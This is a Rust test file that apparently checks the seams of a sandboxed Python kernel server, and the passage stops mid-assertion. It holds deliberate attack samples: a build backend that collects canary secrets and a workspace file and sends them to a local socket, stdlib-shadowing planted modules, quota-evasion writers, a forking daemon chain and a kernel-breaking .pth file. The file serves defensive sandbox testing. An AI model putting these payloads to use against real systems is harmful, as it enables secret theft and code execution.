//! The sandbox's seams (issue 21): what the kernel writes never runs outside the sandbox, the
//! installer sees neither the user's secrets nor the workspace but does see the user's index
//! configuration, the disk quota counts everything the kernel can write and holds, and the
//! sandbox's curated views. Each test performs the attack from kernel code (or from a package's
//! build code) and checks that nothing happened outside.

use std::io::Read;
use std::path::{Path, PathBuf};

use serde_json::json;

use crate::harness::{is_error, text, texts, Index, Server};

/// Variables that point installs at a particular index: taken out of the servers these tests
/// start, so that only the configuration each test sets is in force.
const INDEX_VARS: &[&str] = &[
    "PIP_FIND_LINKS",
    "PIP_NO_INDEX",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_CONFIG_FILE",
    "UV_FIND_LINKS",
    "UV_NO_INDEX",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_CONFIG_FILE",
    "XDG_CONFIG_HOME",
];

/// The secrets a build backend goes looking for, set on the server.
const SECRETS: &[(&str, &str)] = &[
    ("AWS_SECRET_ACCESS_KEY", "CANARY-AWS-SECRET"),
    ("GITHUB_TOKEN", "CANARY-GITHUB-TOKEN"),
    ("KERNEL_MCP_TOKEN", "CANARY-KMCP-TOKEN"),
];

fn tempdir(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new().prefix(prefix).tempdir().unwrap()
}

fn data_dir() -> String {
    kernel_mcp::pyenv::data_dir()
        .unwrap()
        .to_string_lossy()
        .into_owned()
}

/// What a planted file does when something imports or runs it: leave a mark in `out`, a folder
/// on the host that the sandbox does not show, so only code running outside could write it.
fn payload(out: &Path, name: &str) -> String {
    format!(
        "import os as _os\ntry:\n    open(_os.path.join({out:?}, {name:?}), 'w').write(str(_os.getpid()))\nexcept Exception:\n    pass\n",
        out = out.display().to_string()
    )
}

/// Files that shadow what host-side Python imports (the standard library, `site`'s hooks, the
/// installer itself) written into the workspace from kernel code.
fn plant_code(out: &Path) -> String {
    let files = [
        "json.py",
        "re.py",
        "typing.py",
        "sitecustomize.py",
        "usercustomize.py",
        "importlib_metadata.py",
        "pip/__init__.py",
        "pip/__main__.py",
        "venv/__init__.py",
        "venv/__main__.py",
        "matplotlib/__init__.py",
    ];
    let mut code = String::from("import os\n");
    for f in files {
        code.push_str(&format!(
            "os.makedirs(os.path.dirname({f:?}) or '.', exist_ok=True)\nopen({f:?}, 'w').write({p:?})\n",
            p = payload(out, f)
        ));
    }
    code.push_str("print('planted')");
    code
}

/// Fails when a planted file left its mark in `out` (it ran outside the sandbox).
fn assert_no_marks(out: &Path) {
    let marks: Vec<String> = std::fs::read_dir(out)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        marks.is_empty(),
        "kernel-written files ran outside the sandbox: {marks:?}"
    );
}

#[tokio::test]
async fn files_the_kernel_writes_never_run_outside_the_sandbox() {
    let out = tempdir("kmcp-seam-out-");
    let data = data_dir();
    // The server's working directory is the workspace, as with `kernel-mcp --workspace .`.
    let s = Server::start_opts(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())], &[], true).await;
    let r = s.exec(&plant_code(out.path())).await;
    assert_eq!(text(&r).trim(), "planted", "{}", text(&r));
    // Everything the server runs the kernel's interpreter for, outside the kernel.
    let r = s.call("list_packages", json!({"filter": "numpy"})).await;
    assert!(!is_error(&r) && text(&r).contains("numpy"), "{}", text(&r));
    let r = s
        .call(
            "check_packages",
            json!({"packages": ["numpy", "sklearn", "kmcp-not-a-package"]}),
        )
        .await;
    assert!(!is_error(&r), "{}", text(&r));
    assert!(text(&r).contains("scikit-learn"), "{}", text(&r));
    // Already installed: the installer runs (sandboxed) and needs no index.
    let r = s
        .call("install_package", json!({"packages": ["numpy"]}))
        .await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = s.call("get_environment", json!({})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = s.call("restart_kernel", json!({})).await;
    assert!(!is_error(&r), "{}", text(&r));
    let r = s.exec("1 + 1").await;
    assert_eq!(text(&r), "2");
    assert_no_marks(out.path());
    s.close().await;
    // The same probes run by a new server whose working directory holds the planted files.
    let s = Server::start_opts(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())], &[], true).await;
    let r = s.exec(&plant_code(out.path())).await;
    assert_eq!(text(&r).trim(), "planted");
    let cwd = s.ws();
    let setup = std::process::Command::new(env!("CARGO_BIN_EXE_kernel-mcp"))
        .arg("setup")
        .current_dir(&cwd)
        .env("KERNEL_MCP_DATA_DIR", &data)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(setup.status.success());
    assert_no_marks(out.path());
    s.close().await;
}

/// A listener on 127.0.0.1 that keeps whatever is sent to it.
struct Sink {
    port: u16,
    got: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
}

impl Sink {
    fn start() -> Sink {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let keep = got.clone();
        std::thread::spawn(move || {
            for c in l.incoming().flatten() {
                let mut buf = Vec::new();
                let _ = c
                    .set_read_timeout(Some(std::time::Duration::from_secs(10)))
                    .map(|_| (&c).take(1 << 20).read_to_end(&mut buf));
                keep.lock().unwrap().extend(buf);
            }
        });
        Sink { port, got }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.got.lock().unwrap()).into_owned()
    }
}

/// A source-only package `name` 0.1 whose build backend collects what it can find of the
/// server's secrets and the workspace, sends it to `sink_port`, and builds a wheel recording it.
fn nosy_sdist(site: &Path, name: &str, workspace: &Path, sink_port: u16) {
    let module = name.replace('-', "_");
    let backend = format!(
        r#"import os, zipfile, base64, hashlib, socket, json
WS = {ws:?}
NAMES = {names:?}

def _look():
    found = {{}}
    for n in NAMES:
        if n in os.environ:
            found[n] = os.environ[n]
    for k, v in os.environ.items():
        if 'CANARY' in v:
            found[k] = v
    try:
        found['workspace'] = sorted(os.listdir(WS))
        found['secret'] = open(os.path.join(WS, 'secret.txt')).read()
    except Exception as e:
        found['workspace_error'] = type(e).__name__
    return found

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    found = _look()
    try:
        s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
        s.sendall(json.dumps(found).encode())
        s.close()
    except Exception:
        pass
    name = '{module}-0.1-py3-none-any.whl'
    files = {{
        '{module}/__init__.py': 'VALUE = 42\nFOUND = %r\n' % (found,),
        '{module}-0.1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n',
        '{module}-0.1.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: nosy\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    }}
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
        for path, text in files.items():
            data = text.encode()
            z.writestr(path, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
            record.append('%s,sha256=%s,%d' % (path, digest, len(data)))
        record.append('{module}-0.1.dist-info/RECORD,,')
        z.writestr('{module}-0.1.dist-info/RECORD', '\n'.join(record) + '\n')
    return name
"#,
        ws = workspace.display().to_string(),
        names = SECRETS.iter().map(|(k, _)| *k).collect::<Vec<_>>(),
        port = sink_port,
    );
    sdist(site, name, "nosy_backend", &backend);
}

/// Writes a source distribution of `name` 0.1 into `site` whose build backend is the module
/// `backend` (in-tree, `backend_source`): what runs when the installer builds it.
fn sdist(site: &Path, name: &str, backend: &str, backend_source: &str) {
    let module = name.replace('-', "_");
    let src = tempdir("kmcp-sdist-src-");
    let root = src.path().join(format!("{module}-0.1"));
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join(format!("{backend}.py")), backend_source).unwrap();
    std::fs::write(
        root.join("pyproject.toml"),
        format!("[build-system]\nrequires = []\nbuild-backend = \"{backend}\"\nbackend-path = [\".\"]\n\n[project]\nname = \"{name}\"\nversion = \"0.1\"\n"),
    )
    .unwrap();
    std::fs::write(
        root.join("PKG-INFO"),
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n"),
    )
    .unwrap();
    let pack = "import sys, tarfile\nwith tarfile.open(sys.argv[1], 'w:gz') as t:\n    t.add(sys.argv[2], arcname=sys.argv[3])";
    let st = std::process::Command::new("python3")
        .args(["-c", pack])
        .arg(site.join(format!("{module}-0.1.tar.gz")))
        .arg(&root)
        .arg(format!("{module}-0.1"))
        .status()
        .unwrap();
    assert!(st.success());
}

/// A server whose HOME is `home` (and the managed environment's data dir), with no index
/// variables of its own: only `home`'s pip configuration names an index.
async fn server_with_home(home: &Path) -> Server {
    let data = data_dir();
    let home_s = home.to_string_lossy().into_owned();
    Server::start_opts(
        &[],
        &[
            ("HOME", home_s.as_str()),
            ("KERNEL_MCP_DATA_DIR", data.as_str()),
        ],
        INDEX_VARS,
        false,
    )
    .await
}

/// A HOME whose user pip configuration (and nothing else) names the index at `url`.
fn home_naming_index(url: &str) -> tempfile::TempDir {
    let home = tempdir("kmcp-home-");
    let conf = home.path().join(".config/pip/pip.conf");
    std::fs::create_dir_all(conf.parent().unwrap()).unwrap();
    std::fs::write(
        &conf,
        format!("[global]\nno-index = true\nfind-links = {url}\n"),
    )
    .unwrap();
    home
}

fn uninstall(dist: &str) {
    let py = kernel_mcp::pyenv::data_dir()
        .unwrap()
        .join("env/bin/python");
    let _ = std::process::Command::new(py)
        .args(["-m", "pip", "uninstall", "-y", "-q", dist])
        .status();
}

/// Installs `name` (served by a local index that only the given pip configuration names) with
/// secrets in the server's environment and in the workspace; checks that the build saw and sent
/// none of them.
async fn install_with_config(
    name: &str,
    home: &Path,
    env: &[(&str, &str)],
    site: &Path,
    sink: &Sink,
) {
    let data = data_dir();
    let home_s = home.to_string_lossy().into_owned();
    let mut all: Vec<(&str, &str)> = vec![
        ("HOME", home_s.as_str()),
        ("KERNEL_MCP_DATA_DIR", data.as_str()),
    ];
    all.extend(SECRETS.iter().copied());
    all.extend(env.iter().copied());
    let s = Server::start_opts(&[], &all, INDEX_VARS, true).await;
    std::fs::write(s.ws().join("secret.txt"), "CANARY-WORKSPACE-FILE").unwrap();
    nosy_sdist(site, name, &s.ws(), sink.port);
    let r = s.call("install_package", json!({"packages": [name]})).await;
    assert!(!is_error(&r), "{}", text(&r));
    // The notebook record says what was installed (commented out, safe to replay).
    let r = s
        .call("export_notebook", json!({"path": "record.ipynb"}))
        .await;
    assert!(!is_error(&r), "{}", text(&r));
    let nb = std::fs::read_to_string(s.ws().join("record.ipynb")).unwrap();
    assert!(nb.contains(&format!("# %pip install {name}")), "{nb}");
    let module = name.replace('-', "_");
    let r = s
        .exec(&format!(
            "import {module}\nprint({module}.VALUE, sorted({module}.FOUND))"
        ))
        .await;
    let t = text(&r);
    assert!(t.starts_with("42 "), "{t}");
    assert!(!t.contains("CANARY"), "the build saw a secret: {t}");
    assert!(
        !t.contains("'secret'") && !t.contains("'workspace'"),
        "the build saw the workspace: {t}"
    );
    s.close().await;
    uninstall(name);
}

/// A package-name suffix of its own for each run: pip caches wheels built from a URL, and a
/// port an index had before would otherwise serve a cached build (no build code would run).
fn unique_tag() -> String {
    format!(
        "{:x}",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0)
            % 0xffff_ffff
    )
}

#[tokio::test]
async fn the_installer_sees_the_users_index_configuration_and_no_secrets() {
    let site = tempdir("kmcp-index-");
    let index = Index::serve(site.path());
    let sink = Sink::start();
    // 1. The index is named only in the user's pip configuration under the server's HOME.
    let home = home_naming_index(&index.url);
    let tag = unique_tag();
    let user_pkg = format!("kmcp-nosy-user-{tag}");
    let env_pkg = format!("kmcp-nosy-env-{tag}");
    install_with_config(&user_pkg, home.path(), &[], site.path(), &sink).await;
    // 2. The index is named only in a file given by PIP_CONFIG_FILE (and HOME has none).
    let home2 = tempdir("kmcp-home-");
    let file = site.path().join("corp-pip.conf");
    std::fs::write(
        &file,
        format!("[install]\nno-index = yes\nfind-links = {}\n", index.url),
    )
    .unwrap();
    let file_s = file.to_string_lossy().into_owned();
    install_with_config(
        &env_pkg,
        home2.path(),
        &[("PIP_CONFIG_FILE", file_s.as_str())],
        site.path(),
        &sink,
    )
    .await;
    // The builds had the network (installers need it) but nothing secret to send.
    let got = sink.received();
    assert!(
        got.contains("workspace_error"),
        "the build code never reached the listener: {got:?}"
    );
    assert!(!got.contains("CANARY"), "secrets left the machine: {got}");
}

/// A package build that fails after printing 60 MB without a newline: the installer shows the
/// build's output, all of it, and the server reads it to the end in bounded memory, and the
/// result names the failure in a few short lines. (Before, the reader kept a line whole in
/// memory however long it was: 211 MiB peak here, and the result's reason could carry it.)
#[tokio::test]
async fn a_build_flooding_the_installers_output_is_read_in_bounded_memory() {
    let site = tempdir("kmcp-index-");
    let index = Index::serve(site.path());
    let home = home_naming_index(&index.url);
    let tag = unique_tag();
    let name = format!("kmcp-flood-{tag}");
    let backend = r#"import sys

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    chunk = b'x' * (1 << 20)
    for _ in range(60):
        sys.stdout.buffer.write(chunk)
    sys.stdout.buffer.write(b'\nFLOOD-END\n')
    sys.stdout.flush()
    raise SystemExit('the flood build fails on purpose')
"#;
    sdist(site.path(), &name, "flood_backend", backend);
    let s = server_with_home(home.path()).await;
    let before = crate::harness::peak_mib(s.pid);
    let r = s.call("install_package", json!({"packages": [name]})).await;
    let peak = crate::harness::peak_mib(s.pid);
    let t = text(&r);
    eprintln!("server peak memory: {before} MiB before the install, {peak} MiB after it");
    assert!(is_error(&r), "{t}");
    // The installer got to the end of the output: its own last words follow the flood.
    assert!(t.contains("the flood build fails on purpose"), "{t:.3000}");
    assert!(t.len() < 3_000, "{} bytes: {t:.3000}", t.len());
    assert!(peak < before + 40, "{before} MiB before, {peak} MiB peak");
    // The server and its kernel go on.
    let r = s.exec("6 * 7").await;
    assert_eq!(text(&r), "42");
    s.close().await;
}

#[tokio::test]
async fn an_unreachable_index_is_reported_as_what_it_is() {
    let data = data_dir();
    let home = tempdir("kmcp-home-");
    // Nothing listens on this port: the installer's connection is refused.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let url = format!("http://127.0.0.1:{port}/simple");
    let home_s = home.path().to_string_lossy().into_owned();
    let s = Server::start_opts(
        &[],
        &[
            ("HOME", home_s.as_str()),
            ("KERNEL_MCP_DATA_DIR", data.as_str()),
            ("PIP_INDEX_URL", url.as_str()),
            ("PIP_RETRIES", "1"),
            ("PIP_TIMEOUT", "5"),
        ],
        INDEX_VARS,
        false,
    )
    .await;
    let r = s
        .call("install_package", json!({"packages": ["kmcp-unreachable"]}))
        .await;
    assert!(is_error(&r));
    let t = text(&r);
    assert!(
        t.contains("could not reach the package index")
            && !t.contains("not found on the package index"),
        "{t}"
    );
    s.close().await;
}

/// Bytes below `dir` (files only).
fn bytes_under(dir: &Path) -> u64 {
    let mut total = 0;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let Ok(m) = std::fs::symlink_metadata(e.path()) else {
                continue;
            };
            if m.is_dir() {
                stack.push(e.path());
            } else {
                total += m.len();
            }
        }
    }
    total
}

/// A cell that writes 1 MiB chunks, 8 to a file (so no single file meets the file-size limit:
/// only the quota's count can stop it), into the files `new_file` (a Python expression of `i`
/// giving an open file) makes, until a write fails or `limit_mb` are written; the files stay
/// open. Prints how many MiB it wrote.
fn writer(setup: &str, new_file: &str, limit_mb: u32) -> String {
    format!(
        "import os, resource\n{setup}\nchunk = b'x' * (1 << 20)\nn = 0\nkeep = []\ntry:\n    for i in range(10000):\n        if n >= {limit_mb}:\n            break\n        f = {new_file}\n        keep.append(f)\n        for _ in range(8):\n            f.write(chunk)\n            f.flush()\n            n += 1\nexcept OSError as e:\n    print('stopped by', type(e).__name__, e.errno)\nprint('wrote', n)"
    )
}

fn wrote(r: &rmcp::model::CallToolResult) -> u64 {
    texts(r)
        .iter()
        .flat_map(|t| t.lines())
        .find_map(|l| l.trim().strip_prefix("wrote ").map(|n| n.trim().to_owned()))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no count in {:?}", texts(r)))
}

#[tokio::test]
async fn the_disk_quota_counts_every_place_and_cannot_be_lifted() {
    let data = data_dir();
    let s = Server::start_with_env(
        &["--disk-quota", "48M"],
        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
    )
    .await;
    // Slack: the watch looks every 2 ms while the kernel writes, and the page cache takes GB/s
    // (3-5 GB/s measured here), so a fast writer overshoots by what it writes before the next
    // look and during the walk that confirms (0-17 MiB measured here since a write in a
    // watched folder wakes the watch, up to 126 MiB before). Each bypass below was unbounded
    // before (1.1 GB against a 300 MB quota); the writers try 1000 MiB.
    let cap_mb = 48 + 256;
    // 1. Blocked, then the kernel raises its own soft limit back and writes on.
    let r = s
        .exec_for(
            &format!(
                "{}\nsoft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)\ntry:\n    resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))\nexcept Exception as e:\n    print('raise refused', e)\nm = 0\ntry:\n    for j in range(100):\n        with open(f'after{{j}}.bin', 'wb') as g:\n            for _ in range(4):\n                g.write(chunk)\n                g.flush()\n                m += 1\nexcept OSError:\n    pass\nprint('then', m)",
                writer("", "open(f'first{i}.bin', 'wb')", 1000)
            ),
            120.0,
        )
        .await;
    let total = bytes_under(&s.ws());
    eprintln!(
        "disk quota 48 MiB, limit lifted by the kernel: {total} bytes in all; {:?}",
        texts(&r)
    );
    assert!(total <= cap_mb << 20, "{total} bytes: {:?}", texts(&r));
    assert!(wrote(&r) < 1000, "{:?}", texts(&r));
    // Writes stay stopped for this kernel (it lifted the block once); a restart starts over.
    // The quota counts what each kernel adds to what was there when it started: clean up
    // before the restart, or the next kernel would be credited with what is deleted here.
    for e in std::fs::read_dir(s.ws()).unwrap().flatten() {
        let _ = std::fs::remove_file(e.path());
    }
    let r = s.call("restart_kernel", json!({})).await;
    assert!(!is_error(&r), "{}", text(&r));
    // 2. The runtime folder (and the private /tmp, HOME, /dev/shm) count too.
    for (what, setup, open_expr) in [
        (
            "runtime dir",
            "from ipykernel import get_connection_file\nd = os.path.dirname(get_connection_file())",
            "open(os.path.join(d, f'big{i}.bin'), 'wb')",
        ),
        ("/tmp", "", "open(f'/tmp/big{i}.bin', 'wb')"),
        ("/dev/shm", "", "open(f'/dev/shm/big{i}.bin', 'wb')"),
        (
            "HOME",
            "",
            "open(os.path.expanduser(f'~/big{i}.bin'), 'wb')",
        ),
        // 3. A folder the quota's walk cannot read.
        (
            "mode 0300 folder",
            "os.mkdir('hidden', 0o700)\nos.chmod('hidden', 0o300)",
            "open(f'hidden/part{i}.bin', 'wb')",
        ),
        // 4. Files deleted while open.
        (
            "deleted open files",
            "",
            "(lambda f: (os.unlink(f.name), f)[1])(open(f'ghost{i}.bin', 'wb'))",
        ),
    ] {
        let r = s.exec_for(&writer(setup, open_expr, 1000), 120.0).await;
        let n = wrote(&r);
        eprintln!("disk quota 48 MiB, {what}: stopped after {n} MiB");
        assert!(
            n < 1000 && n <= cap_mb,
            "{what}: wrote {n} MiB against a 48 MiB quota: {:?}\n{}",
            texts(&r),
            s.log()
                .lines()
                .filter(|l| l.contains("quota"))
                .collect::<Vec<_>>()
                .join("\n")
        );
        let hidden = s.ws().join("hidden");
        if hidden.exists() {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&hidden, std::fs::Permissions::from_mode(0o700));
            let _ = std::fs::remove_dir_all(&hidden);
        }
        // The ghosts go with the kernel that holds them open.
        let r = s.call("restart_kernel", json!({})).await;
        assert!(!is_error(&r), "{}", text(&r));
    }
    s.close().await;
}

#[tokio::test]
async fn vsock_and_other_address_families_are_denied() {
    let data = data_dir();
    for args in [&[][..], &["--allow-network"][..]] {
        let s = Server::start_with_env(args, &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
        let r = s
            .exec("import socket\nout = []\nfor fam in ('AF_VSOCK', 'AF_BLUETOOTH', 'AF_ALG', 'AF_PACKET', 'AF_CAN', 'AF_TIPC', 'AF_RDS'):\n    f = getattr(socket, fam, None)\n    if f is None:\n        continue\n    try:\n        socket.socket(f, socket.SOCK_SEQPACKET if fam == 'AF_ALG' else socket.SOCK_STREAM if fam == 'AF_VSOCK' else socket.SOCK_RAW).close()\n        out.append(fam + ' open')\n    except OSError as e:\n        out.append(fam + ' ' + str(e.errno))\nprint(out)\nsocket.socket(socket.AF_UNIX).close(); socket.socket(socket.AF_INET).close(); print('ok')")
            .await;
        let t = text(&r);
        assert!(t.contains("AF_VSOCK 1"), "{args:?}: {t}");
        assert!(!t.contains(" open"), "{args:?}: {t}");
        assert!(t.contains("ok"), "{args:?}: {t}");
        s.close().await;
    }
}

#[tokio::test]
async fn the_private_tmp_works_and_root_only_files_stay_hidden() {
    let data = data_dir();
    let s = Server::start_with_env(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
    // Ordinary work: /tmp is the kernel's own, `ls /` lists the sandbox's root.
    let r = s
        .exec("import os, subprocess\nopen('/tmp/x', 'w').write('tmp ok')\nimport matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('/tmp/fig.png')\nprint(open('/tmp/x').read(), os.path.getsize('/tmp/fig.png') > 0)\nprint(subprocess.run('echo hi > /tmp/y && cat /tmp/y && ls / | grep -c usr', shell=True, capture_output=True, text=True).stdout)")
        .await;
    let t = text(&r);
    assert!(t.starts_with("tmp ok True\nhi\n1"), "{t}");
    // What host root's uid could read is not shown: private keys, most of /sys, host keyrings.
    let r = s
        .exec("import os\ndef peek(p):\n    try:\n        with open(p, 'rb') as f:\n            return len(f.read(4096))\n    except OSError as e:\n        return e.errno\nprint({p: peek(p) for p in ['/proc/keys', '/proc/slabinfo', '/proc/kallsyms', '/proc/key-users']})\nprint(sorted(os.listdir('/etc/ssl')))\nprint(os.path.exists('/sys/class'), os.path.exists('/sys/devices/system/cpu/online'), os.cpu_count() > 0)")
        .await;
    let t = text(&r);
    let lines: Vec<&str> = t.lines().collect();
    // Each masked file reads as empty (or is refused, or is not there).
    for f in [
        "'/proc/keys': 0",
        "'/proc/slabinfo': 0",
        "'/proc/key-users': 0",
    ] {
        assert!(
            lines.first().is_some_and(|l| l.contains(f)
                || l.contains(&f.replace(": 0", ": 13"))
                || l.contains(&f.replace(": 0", ": 2"))),
            "{f}: {t}"
        );
    }
    assert!(lines.get(1).is_some_and(|l| !l.contains("private")), "{t}");
    assert_eq!(lines.get(2).copied(), Some("False True True"), "{t}");
    s.close().await;
}

#[tokio::test]
async fn a_refused_local_connection_says_the_network_is_off() {
    let data = data_dir();
    // A service on the host's loopback: the sandboxed kernel's localhost is not this one.
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let s = Server::start_with_env(&[], &[("KERNEL_MCP_DATA_DIR", data.as_str())]).await;
    let r = s
        .exec(&format!(
            "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5)"
        ))
        .await;
    assert!(is_error(&r));
    let t = texts(&r);
    assert!(
        t.iter().any(|x| x.contains("ConnectionRefusedError")),
        "{t:?}"
    );
    assert!(
        t.iter()
            .any(|x| x.starts_with("[sandbox: the network is off")
                && x.contains("--allow-network")
                && x.contains("localhost")),
        "{t:?}"
    );
    drop(l);
    s.close().await;
}

#[tokio::test]
async fn detached_cpu_is_one_budget_for_a_chain_of_forks() {
    let data = data_dir();
    let s = Server::start_with_env(
        &["--detached-cpu-limit", "3"],
        &[("KERNEL_MCP_DATA_DIR", data.as_str())],
    )
    .await;
    // A daemon that burns CPU in short-lived generations: each forks its successor and exits,
    // so no single process runs long. Each generation records the CPU it used.
    let out = PathBuf::from("chain");
    let code = format!(
        r#"import os, time, sys
os.makedirs({out:?}, exist_ok=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    gen = 0
    while gen < 200:
        end = time.process_time() + 0.6
        while time.process_time() < end:
            pass
        with open(os.path.join({out:?}, 'g%03d' % gen), 'w') as f:
            f.write(str(time.process_time()))
        gen += 1
        if os.fork():
            os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
print('started')"#,
        out = out.display().to_string()
    );
    let r = s.exec(&code).await;
    assert!(text(&r).contains("started"), "{}", text(&r));
    let chain = s.ws().join("chain");
    // The chain ends when its budget is spent: its generation count stops growing.
    let count = || std::fs::read_dir(&chain).map(|d| d.count()).unwrap_or(0);
    let mut last = (count(), std::time::Instant::now());
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
    while std::time::Instant::now() < deadline {
        let c = count();
        if c != last.0 {
            last = (c, std::time::Instant::now());
        } else if last.1.elapsed() > std::time::Duration::from_secs(5) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    let gens = count();
    eprintln!("detached chain: {gens} generations");
    // 0.6 CPU-seconds a generation: a 3 s budget (plus the watch's polling slack) allows a
    // handful, never the 200 a per-process limit would.
    assert!(gens > 0, "the chain never ran");
    assert!(
        gens <= 12,
        "{gens} generations of 0.6 CPU-s against a 3 s budget"
    );
    s.close().await;
}

/// Builds a wheel `name-version` into `site` with `requires` and extra `files` (path, text).
fn wheel(site: &Path, name: &str, version: &str, requires: &[&str], files: &[(&str, &str)]) {
    let module = name.replace('-', "_");
    let mut meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n");
    for r in requires {
        meta.push_str(&format!("Requires-Dist: {r}\n"));
    }
    let mut all: Vec<(String, String)> = files
        .iter()
        .map(|(p, t)| ((*p).to_owned(), (*t).to_owned()))
        .collect();
    all.push((format!("{module}-{version}.dist-info/METADATA"), meta));
    all.push((
        format!("{module}-{version}.dist-info/WHEEL"),
        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n".into(),
    ));
    let spec = serde_json::to_string(&all).unwrap();
    let make = r#"import sys, json, zipfile, base64, hashlib
out, dist, files = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
record = []
with zipfile.ZipFile(out, 'w') as z:
    for path, text in files:
        data = text.encode()
        z.writestr(path, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
        record.append('%s,sha256=%s,%d' % (path, digest, len(data)))
    record.append(dist + '/RECORD,,')
    z.writestr(dist + '/RECORD', '\n'.join(record) + '\n')
"#;
    let st = std::process::Command::new("python3")
        .args(["-c", make])
        .arg(site.join(format!("{module}-{version}-py3-none-any.whl")))
        .arg(format!("{module}-{version}.dist-info"))
        .arg(spec)
        .status()
        .unwrap();
    assert!(st.success());
}

fn installed_version_in(py: &Path, dist: &str) -> String {
    let out = std::process::Command::new(py)
        .args([
            "-I",
            "-c",
            "import sys\nfrom importlib import metadata\ntry:\n    print(metadata.version(sys.argv[1]))\nexcept Exception:\n    print('missing')",
            dist,
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// A venv at `dir` from the managed environment's base interpreter, seeing the managed
/// environment's packages through a `.pth` file; returns its python.
fn own_venv(dir: &Path) -> PathBuf {
    crate::harness::venv_over_managed(dir, false)
}

#[tokio::test]
async fn an_install_cannot_break_the_kernels_environment() {
    let site = tempdir("kmcp-index-");
    // A too-old pin of a dependency of the kernel's machinery (jupyter_core needs platformdirs),
    // a package that drags it in, and one that installs fine but stops every kernel's start.
    wheel(
        site.path(),
        "platformdirs",
        "0.0.1",
        &[],
        &[("platformdirs/__init__.py", "")],
    );
    wheel(
        site.path(),
        "kmcp-needs-old",
        "1.0",
        &["platformdirs==0.0.1"],
        &[("kmcp_needs_old/__init__.py", "")],
    );
    wheel(
        site.path(),
        "kmcp-breaker",
        "1.0",
        &[],
        &[
            ("kmcp_breaker/__init__.py", ""),
            (
                "kmcp_breaker.pth",
                "import sys; sys.modules.__setitem__('jupyter_client', None)\n",
            ),
        ],
    );
    let index = Index::serve(site.path());
    let home = home_naming_index(&index.url);
    // A venv of its own that sees the managed environment's packages through a .pth file: an
    // install here cannot disturb the kernels other tests start meanwhile.
    let venv = tempdir("kmcp-venv-");
    let py = own_venv(venv.path());
    let data = data_dir();
    let home_s = home.path().to_string_lossy().into_owned();
    let venv_s = venv.path().to_string_lossy().into_owned();
    let version = |dist: &str| installed_version_in(&py, dist);
    let before = version("platformdirs");
    assert_ne!(before, "missing");
    let s = Server::start_opts(
        &["--venv", venv_s.as_str()],
        &[
            ("HOME", home_s.as_str()),
            ("KERNEL_MCP_DATA_DIR", data.as_str()),
        ],
        INDEX_VARS,
        false,
    )
    .await;
    // Asked for by name: refused before the installer runs.
    let r = s
        .call(
            "install_package",
            json!({"packages": ["platformdirs==0.0.1"]}),
        )
        .await;
    assert!(is_error(&r));
    assert!(
        text(&r).contains("what the kernel itself runs on"),
        "{}",
        text(&r)
    );
    // Dragged in by another package: the pin makes the installer refuse.
    let r = s
        .call("install_package", json!({"packages": ["kmcp-needs-old"]}))
        .await;
    assert!(is_error(&r));
    assert!(text(&r).contains("pinned"), "{}", text(&r));
    assert_eq!(version("platformdirs"), before);
    assert_eq!(version("kmcp-needs-old"), "missing");
    // Installed, then found to stop a kernel's start: rolled back.
    let r = s
        .call("install_package", json!({"packages": ["kmcp-breaker"]}))
        .await;
    assert!(is_error(&r));
    let t = text(&r);
    assert!(
